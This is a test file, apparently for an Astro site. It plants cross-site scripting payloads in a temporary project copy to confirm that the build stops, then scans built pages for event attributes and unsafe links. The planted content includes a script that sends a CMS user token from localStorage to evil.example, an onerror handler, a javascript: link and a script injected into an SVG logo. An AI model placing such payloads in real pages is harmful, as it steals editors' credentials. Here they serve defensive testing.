/**
 * Content is data, never code, checked two ways over the build:
 * - planted: a copy of the project whose article holds a script, an onerror
 *   attribute and a javascript: link, and whose partner logo holds a script;
 *   `astro build` must stop, naming each file (and line) and what is wrong
 *   (the checks run before the build renders anything, so it ends there);
 * - the built site in dist/: no element carries an event attribute, and no
 *   link, form or embedded resource points to an address other than a safe one.
 * Nothing is planted in src/content or public/: the copies live in a
 * temporary folder, removed afterwards.
 */
import { spawnSync } from 'node:child_process';
import { readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'node-html-parser';
import { afterAll, describe, expect, it } from 'vitest';
import { projectCopy } from '../../scripts/lib/project-copy.mjs';
import { testBuildEnv } from '../../scripts/lib/test-env.mjs';
import { builtPages } from '../../src/lib/site/builtFiles';
import { isSafeUrl } from '../../src/lib/security/safeUrl';
import { DIST } from '../support/dist';

const ROOT = join(import.meta.dirname, '..', '..');
const copies: string[] = [];
afterAll(() => copies.forEach((dir) => rmSync(dir, { recursive: true, force: true })));

/** A copy of the project (scripts/lib/project-copy.mjs) with `plant` applied; the output of `astro build` in it. */
function buildCopy(plant: (dir: string) => void): { status: number | null; output: string } {
  const dir = projectCopy(ROOT, 'content-safety');
  copies.push(dir);
  plant(dir);
  const run = spawnSync(process.execPath, [join(ROOT, 'node_modules/astro/bin/astro.mjs'), 'build'], {
    cwd: dir,
    encoding: 'utf8',
    env: { ...process.env, ...testBuildEnv(), ASTRO_TELEMETRY_DISABLED: '1' },
    timeout: 240_000,
  });
  return { status: run.status, output: `${run.stdout}\n${run.stderr}` };
}

describe('planted attacks stop the build', () => {
  it('a script, an onerror attribute and a javascript: link in an article, and a script in a logo: each named', () => {
    // Whichever article and logo the content holds: the test plants into what is there.
    const [articleFile = ''] = readdirSync(join(ROOT, 'src/content/articles')).filter((f) => f.endsWith('.md'));
    const article = readFileSync(join(ROOT, 'src/content/articles', articleFile), 'utf8');
    const planted = [
      article.trimEnd(),
      '',
      '<script>fetch("https://evil.example/?t=" + localStorage.getItem("sveltia-cms.user"))</script>',
      '',
      'A chart: <img src="chart.png" onerror="alert(document.domain)">',
      '',
      'Read [the checklist](javascript:alert(document.domain)) first.',
      '',
    ].join('\n');
    const line = (text: string) => planted.split('\n').findIndex((l) => l.includes(text)) + 1;
    const logoFile = `public/partners/${readdirSync(join(ROOT, 'public/partners')).find((f) => f.endsWith('.svg')) ?? ''}`;
    const { status, output } = buildCopy((dir) => {
      writeFileSync(join(dir, 'src/content/articles/planted.md'), planted);
      const logo = readFileSync(join(ROOT, logoFile), 'utf8');
      writeFileSync(join(dir, logoFile), logo.replace('</svg>', '<script>alert(document.domain)</script></svg>'));
    });
    expect(status).not.toBe(0);
    const file = 'src/content/articles/planted.md';
    expect(output).toContain(`${file}, line ${line('<script>')}: HTML (<script>)`);
    expect(output).toContain(`${file}, line ${line('onerror')}: HTML (<img>) with an onerror attribute`);
    expect(output).toContain(`${file}, line ${line('javascript:')}: a link to a javascript: address`);
    expect(output).toContain(`${logoFile}: a <script> element`);
    expect(output).toContain('Save the logo again as a plain SVG');
    expect(output).not.toMatch(/\[build\] Complete!/);
  }, 300_000);
});

describe('the built site', () => {
  const pages = builtPages(DIST).filter((p) => !p.startsWith('admin/'));
  const elements = pages.flatMap((page) =>
    parse(readFileSync(join(DIST, page), 'utf8'))
      .querySelectorAll('*')
      .map((el) => ({ page, el })),
  );

  it('has pages, and no element with an event attribute (onclick, onerror…)', () => {
    expect(pages.length).toBeGreaterThan(0);
    const found = elements.flatMap(({ page, el }) =>
      Object.keys(el.attributes)
        .filter((a) => /^on/i.test(a))
        .map((a) => `${page}: <${el.rawTagName} ${a}>`),
    );
    expect(found).toEqual([]);
  });

  it('links, forms and embeds only to safe addresses (pictures may be held in a data: address)', () => {
    const found = elements.flatMap(({ page, el }) =>
      ['href', 'src', 'action', 'formaction', 'data', 'poster', 'srcset']
        .flatMap((name) => (el.getAttribute(name) === undefined ? [] : [[name, el.getAttribute(name) ?? '']]))
        .filter(([name, value]) => {
          if (el.rawTagName.toLowerCase() === 'img' && /^data:image\//.test(value ?? '')) return false;
          return !(name === 'srcset'
            ? (value ?? '').split(',').every((c) => isSafeUrl(c.trim()))
            : isSafeUrl(value ?? ''));
        })
        .map(([name, value]) => `${page}: <${el.rawTagName} ${name}="${value?.slice(0, 40)}">`),
    );
    expect(found).toEqual([]);
  });
});
